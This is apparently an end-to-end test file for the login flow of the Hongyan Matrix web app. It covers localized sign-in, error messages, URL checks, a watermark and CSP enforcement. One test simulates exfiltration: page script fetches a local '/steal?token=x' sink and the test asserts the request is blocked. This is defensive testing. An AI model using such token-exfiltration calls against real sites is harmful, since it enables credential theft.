import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { seedDemoProvince, type DemoAccount } from '../admin/seed-demo';
import type { TestUser } from '../homeserver/testing';
import { webAppForFile } from './app-fixture';
import { expectText, newUserContext, saveScreenshot } from './browser';
import { serveBuiltWebApp } from './web-app';

let user: TestUser;
let demoIssuer: DemoAccount;
let secretsDir: string;

const app = webAppForFile({
  seed: async (hs) => {
    user = await hs.registerUser({
      username: 'zhangwei',
      password: 'Correct-Horse-1',
      displayName: '张伟',
    });
    secretsDir = await mkdtemp(path.join(os.tmpdir(), 'hongyan-e2e-'));
    const { accounts } = await seedDemoProvince({
      homeserverUrl: hs.baseUrl,
      serverName: hs.serverName,
      adminToken: hs.admin.accessToken,
      credentialsFile: path.join(secretsDir, 'demo-accounts.json'),
    });
    const issuer = accounts.find((a) => a.roles.includes('issuer') && a.unitCode === '990000');
    if (!issuer?.password)
      throw new Error('the demo province has no province issuer with a password');
    demoIssuer = issuer;
  },
  cleanUp: async () => {
    if (secretsDir) await rm(secretsDir, { recursive: true, force: true });
  },
});

async function openLogin(locale = 'zh-CN'): Promise<Page> {
  const page = await (await newUserContext(app.browser, locale)).newPage();
  await page.goto(app.url);
  await page.getByTestId('login-username').waitFor();
  return page;
}

async function fillLogin(
  page: Page,
  opts: { homeserver?: string; username: string; password: string },
) {
  if (opts.homeserver !== undefined)
    await page.getByTestId('login-homeserver').fill(opts.homeserver);
  await page.getByTestId('login-username').fill(opts.username);
  await page.getByTestId('login-password').fill(opts.password);
  await page.getByTestId('login-submit').click();
}

describe('login (web mode, real homeserver)', () => {
  it('shows the login screen in Chinese with the homeserver pre-filled, and signs in', async () => {
    const page = await openLogin();
    await expectText(page.locator('h1'), '登录鸿雁');
    expect(await page.getByTestId('login-homeserver').inputValue()).toBe(app.hs.baseUrl);
    await saveScreenshot(page, 'login-screen');

    await fillLogin(page, { username: 'zhangwei', password: 'Correct-Horse-1' });
    await page.getByTestId('signed-in-user').waitFor();
    expect(await page.getByTestId('signed-in-user').textContent()).toContain(user.userId);
    // The room list appears once the first sync with Rust crypto has completed.
    await page.locator('[data-testid="room-list"][data-loaded="true"]').waitFor();
    await page.getByTestId('connection-state').filter({ hasText: '已连接' }).waitFor();
    await saveScreenshot(page, 'signed-in');
    await page.context().close();
  });

  it('signs in as a demo user of the seeded province and lists their unit rooms', async () => {
    const page = await openLogin();
    await fillLogin(page, { username: demoIssuer.username, password: demoIssuer.password! });
    await page.getByTestId('signed-in-user').waitFor();
    expect(await page.getByTestId('signed-in-user').textContent()).toContain(demoIssuer.userId);
    // Provisioning joined the issuer to the province's notice room; the room list shows it, decrypted names and all.
    await page
      .locator('[data-testid="room-list"] [data-room-id]', { hasText: '示范省 通知公告' })
      .first()
      .waitFor();
    // A demo account has the seed's initial password: the app asks for a new one before its keys.
    await page.locator('[data-testid="password-form"][data-first-login="true"]').waitFor();
    await saveScreenshot(page, 'signed-in-demo-issuer');
    await page.context().close();
  });

  it('draws the name-and-ID watermark over the app when the deployment requires it', async () => {
    const marked = await serveBuiltWebApp(app.hs.baseUrl, { watermark: true });
    const page = await (await newUserContext(app.browser)).newPage();
    try {
      await page.goto(marked.url);
      await fillLogin(page, { username: 'zhangwei', password: 'Correct-Horse-1' });
      const mark = page.getByTestId('watermark');
      await mark.waitFor();
      expect(await mark.getAttribute('data-text')).toContain(user.userId);
      // It must not take clicks meant for the app underneath.
      expect(await mark.evaluate((el) => getComputedStyle(el).pointerEvents)).toBe('none');
      await page.getByTestId('nav-circulars').click();
      await saveScreenshot(page, 'watermark');
    } finally {
      await page.context().close();
      await marked.close();
    }
  });

  it('says the password is wrong, in the user language, and stays usable', async () => {
    const page = await openLogin();
    await fillLogin(page, { username: 'zhangwei', password: 'wrong-password' });
    const error = page.getByTestId('login-error');
    await error.waitFor();
    expect(await error.getAttribute('data-error-kind')).toBe('badCredentials');
    expect(await error.textContent()).toBe('用户名或密码错误。');
    await saveScreenshot(page, 'login-wrong-password');
    // The form still works after an error.
    await fillLogin(page, { username: 'zhangwei', password: 'Correct-Horse-1' });
    await page.getByTestId('signed-in-user').waitFor();
    await page.context().close();
  });

  it('tells a malformed URL, plain http off this machine and a foreign server apart', async () => {
    const page = await openLogin();
    const cases: Array<[string, string]> = [
      ['ftp://example', 'invalidUrl'],
      // The password would cross the network in the clear: refused before any request is made.
      ['http://hongyan.example.org:8008', 'insecureUrl'],
      // The page's CSP reaches only the configured homeserver; the login says so instead of failing.
      ['http://127.0.0.1:9', 'homeserverNotAllowed'],
    ];
    const requested: string[] = [];
    page.on('request', (r) => requested.push(new URL(r.url()).host));
    for (const [homeserver, kind] of cases) {
      await fillLogin(page, { homeserver, username: 'zhangwei', password: 'x' });
      await page.locator(`[data-testid="login-error"][data-error-kind="${kind}"]`).waitFor();
    }
    expect(requested).not.toContain('hongyan.example.org:8008');
    expect(requested).not.toContain('127.0.0.1:9');
    await saveScreenshot(page, 'login-insecure-homeserver');
    await page.context().close();
  });

  it('lets no script in the page send data to any host but the homeserver (CSP)', async () => {
    const received: string[] = [];
    const sink = createServer((req, res) => {
      received.push(req.url ?? '');
      res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('ok');
    });
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
    const sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/steal?token=x`;
    try {
      const page = await openLogin();
      const outcome = await page.evaluate(async (url) => {
        try {
          await fetch(url, { mode: 'no-cors' });
          return 'sent';
        } catch {
          return 'blocked';
        }
      }, sinkUrl);
      expect(outcome).toBe('blocked');
      // The homeserver itself stays reachable.
      const versions = await page.evaluate(
        async (hsUrl) => (await fetch(`${hsUrl}/_matrix/client/versions`)).status,
        app.hs.baseUrl,
      );
      expect(versions).toBe(200);
      expect(received).toEqual([]);
      await page.context().close();
    } finally {
      await new Promise<void>((resolve) => sink.close(() => resolve()));
    }
  });

  it('says the homeserver is down when it is stopped, in English when chosen', async () => {
    const page = await openLogin();
    await page.getByTestId('language-switch').selectOption('en');
    await expectText(page.locator('h1'), 'Sign in to Hongyan');
    await app.hs.stop();
    try {
      await fillLogin(page, { username: 'zhangwei', password: 'Correct-Horse-1' });
      const error = page.locator('[data-testid="login-error"][data-error-kind="unreachable"]');
      await error.waitFor();
      expect(await error.textContent()).toContain('Cannot reach the homeserver');
    } finally {
      await app.hs.start();
    }
    await page.context().close();
  });
});
